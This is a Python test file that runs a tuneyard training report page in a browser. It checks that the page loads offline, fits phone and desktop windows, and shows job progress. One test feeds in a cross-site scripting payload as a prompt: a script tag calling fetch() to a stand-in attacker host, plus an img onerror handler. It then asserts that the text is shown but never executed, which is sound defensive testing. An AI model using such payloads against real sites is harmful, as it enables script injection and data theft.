"""The report page in a real browser: it needs nothing but itself, fits phones, and runs nothing that people wrote into it."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.chromium import look_at
from tests.reports import finished_report, make_job, tell, train_events

from tuneyard.tracking import Recorder, write_report


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280], ids=["phone", "desktop"])
def test_the_page_asks_for_nothing_and_fits_its_window(tmp_path: Path, width: int, dark: bool) -> None:
    write_report(tmp_path, finished_report())

    seen = look_at(tmp_path / "report.html", tmp_path, width=width, dark=dark)

    assert [url for url in seen.requests if not url.startswith("data:")] == [(tmp_path / "report.html").as_uri()]
    assert seen.errors == []
    assert seen.width <= width
    assert "support-bot" in seen.text
    assert "41.8 %" in seen.text


def test_what_people_wrote_is_shown_and_not_run(tmp_path: Path) -> None:
    attack = "<script>document.title='run'; fetch('http://attacker.invalid/')</script><img src=x onerror=alert(1)>"
    write_report(tmp_path, finished_report(prompt=attack))

    seen = look_at(tmp_path / "report.html", tmp_path)

    assert "<script>document.title='run'" in seen.text
    assert [url for url in seen.requests if not url.startswith(("data:", "file:"))] == []
    assert seen.errors == []


def test_the_page_of_a_running_job_shows_how_far_it_is(tmp_path: Path) -> None:
    recorder = Recorder(make_job())
    tell(recorder, train_events(steps=60, of=120))
    write_report(tmp_path, recorder.report())

    seen = look_at(tmp_path / "report.html", tmp_path)

    assert "50.0 %" in seen.text
    assert seen.errors == []
